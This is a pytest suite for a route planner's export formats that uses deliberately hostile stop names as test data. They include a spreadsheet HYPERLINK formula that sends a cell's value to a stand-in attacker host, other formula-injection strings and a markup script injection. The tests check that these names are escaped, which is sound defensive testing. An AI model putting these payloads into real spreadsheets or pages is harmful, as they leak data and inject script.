"""Exports read back: the same routes come out of every format, and no hostile name becomes a formula."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import geojson
import gpxpy
import openpyxl
import pypdf
import pytest

from builders import scenario, stop
from routeplanner.errors import InputError
from routeplanner.imported import import_timetable
from routeplanner.io.exports import FORMATS, export_bytes, format_of
from routeplanner.io.timetable import read_timetable_bytes
from routeplanner.model import Frequency, Vehicle

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "Šetekšnų kaimas",
           "</name><script>x</script>"]
FORMULA_STARTS = tuple("=+-@")


@pytest.fixture(scope="module")
def case():
    """A two-van, two-week plan whose stops have hostile names, west of Greenwich (negative longitudes)."""
    stops = [replace(stop(f"s{i}", 0, lat_offset=0.02 * i, frequency=Frequency(period_weeks=1 if i % 2 else 2)),
                     name=name, lon=-2.0 - 0.05 * i)
             for i, name in enumerate(HOSTILE)]
    vans = (Vehicle("=Van", 2500, 8 * 60, 17 * 60, 45, 270), Vehicle("Second", 2500, 8 * 60, 17 * 60, 45, 270))
    sc = scenario(stops, weeks=2, days=("Mon", "Tue"), vehicles=vans)
    rows = ["vehicle,day,weeks,stop_id,arrival,departure"]
    t = 9 * 60
    for i, s in enumerate(sc.stops):
        weeks = "1;2" if s.frequency.period_weeks == 1 else "1"
        rows.append(f"{'=Van' if i < 4 else 'Second'},{'Mon' if i < 4 else 'Tue'},{weeks},{s.id},"
                    f"{t // 60}:{t % 60:02d},{(t + 20) // 60}:{(t + 20) % 60:02d}")
        t += 60
    plan = import_timetable(sc, read_timetable_bytes("\n".join(rows).encode(), "t.csv")).plan
    return sc, plan


def _routes(plan):
    return [r for r in plan.routes if r.visits]


def _shape(plan):
    return sorted((r.vehicle, r.week, r.day, tuple((v.stop_id, v.name, v.arrival_min, v.departure_min)
                                                   for v in r.visits)) for r in _routes(plan))


def test_the_workbook_reads_back_as_the_same_plan_and_holds_no_formula(case):
    sc, plan = case
    data = export_bytes(plan, FORMATS["xlsx"], sc)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames[0] == "Timetable"
    assert len(book.sheetnames) == 1 + len(_routes(plan))  # every stop is served: no "Not served" sheet
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert any(c.value == "'" + HOSTILE[0] for c in cells)  # the name, as text
    # Negative longitudes stay numbers, not text.
    assert any(isinstance(c.value, float) and c.value < -2 for c in cells)
    again = import_timetable(sc, read_timetable_bytes(data, "plan.xlsx")).plan
    assert _shape(again) == _shape(plan)
    assert again.totals.distance_km == pytest.approx(plan.totals.distance_km)


def test_each_route_day_sheet_lists_its_stops_in_order(case):
    sc, plan = case
    book = openpyxl.load_workbook(io.BytesIO(export_bytes(plan, FORMATS["xlsx"], sc)))
    for sheet, route in zip(book.worksheets[1:], sorted(_routes(plan), key=lambda r: (r.week, r.day))):
        rows = list(sheet.iter_rows(min_row=4, values_only=True))
        assert [r[1] for r in rows[:-1]] == [v.stop_id for v in route.visits]
        assert rows[-1][2].startswith("back at the depot")


def test_the_csv_has_a_row_per_visit_and_no_formula(case):
    sc, plan = case
    rows = list(csv.reader(io.StringIO(export_bytes(plan, FORMATS["csv"], sc).decode("utf-8-sig"))))
    assert len(rows) - 1 == sum(len(r.visits) for r in plan.routes)
    numbers = {str(v.lon) for r in plan.routes for v in r.visits}  # negative longitudes stay numbers
    assert not [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and c not in numbers]
    assert {row[6] for row in rows[1:]} == {"'" + n if n.startswith(FORMULA_STARTS) else n for n in HOSTILE}


def test_geojson_is_valid_rfc_7946_with_lon_lat_positions(case):
    sc, plan = case
    doc = json.loads(export_bytes(plan, FORMATS["geojson"], sc))
    shapes = geojson.loads(json.dumps(doc))
    assert shapes.is_valid, shapes.errors()
    assert "crs" not in doc
    lines = [f for f in doc["features"] if f["geometry"]["type"] == "LineString"]
    assert len(lines) == len(_routes(plan))
    by_key = {(r.vehicle, r.week, r.day): r for r in plan.routes}
    for f in lines:
        p = f["properties"]
        route = by_key[(p["vehicle"], p["week"], p["day"])]
        depot = [route.depot.lon, route.depot.lat]
        assert f["geometry"]["coordinates"] == [depot] + [[v.lon, v.lat] for v in route.visits] + [depot]
        assert p["stops"] == [v.stop_id for v in route.visits]
    points = [f for f in doc["features"] if f["geometry"]["type"] == "Point"]
    assert {f["properties"]["name"] for f in points} == set(HOSTILE)
    for f in points:
        lon, lat = f["geometry"]["coordinates"]
        assert lon < -1.9 and 54 < lat < 56  # longitude first: these stops are west of Greenwich at 55 N


def test_gpx_has_a_route_per_route_day_with_the_stops_in_order(case):
    sc, plan = case
    gpx = gpxpy.parse(export_bytes(plan, FORMATS["gpx"], sc).decode("utf-8"))
    routes = sorted(_routes(plan), key=lambda r: (r.week, r.day))
    assert len(gpx.routes) == len(routes)
    for rte, route in zip(gpx.routes, routes):
        got = [(round(p.latitude, 6), round(p.longitude, 6)) for p in rte.points]
        depot = (route.depot.lat, route.depot.lon)
        assert got == [depot] + [(round(v.lat, 6), round(v.lon, 6)) for v in route.visits] + [depot]
        assert [p.name for p in rte.points[1:-1]] == [
            f"{i} {v.name} {v.arrival_min // 60:02d}:{v.arrival_min % 60:02d}-"
            f"{v.departure_min // 60:02d}:{v.departure_min % 60:02d}" for i, v in enumerate(route.visits, start=1)]
    assert {w.name for w in gpx.waypoints} == set(HOSTILE)


def test_the_pdf_has_a_driver_sheet_per_route_day_with_the_names_as_written(case):
    sc, plan = case
    data = export_bytes(plan, FORMATS["pdf"], sc)
    pdf = pypdf.PdfReader(io.BytesIO(data))
    assert len(pdf.pages) == len(_routes(plan))
    text = "\n".join(page.extract_text() for page in pdf.pages)
    assert "Šetekšnų kaimas" in text and "=HYPERLINK" in text
    assert "back at the depot" in text


@pytest.mark.parametrize("name,fmt", [("a.XLSX", "xlsx"), ("b.gpx", "gpx"), ("c.geojson", "geojson")])
def test_the_format_comes_from_the_extension(name, fmt):
    assert format_of(name).name == fmt


@pytest.mark.parametrize("name", ["plan.docx", "plan", "plan.json"])
def test_an_unknown_extension_is_a_clear_error(name):
    with pytest.raises(InputError) as err:
        format_of(name)
    assert ".gpx" in err.value.problems[0].expected
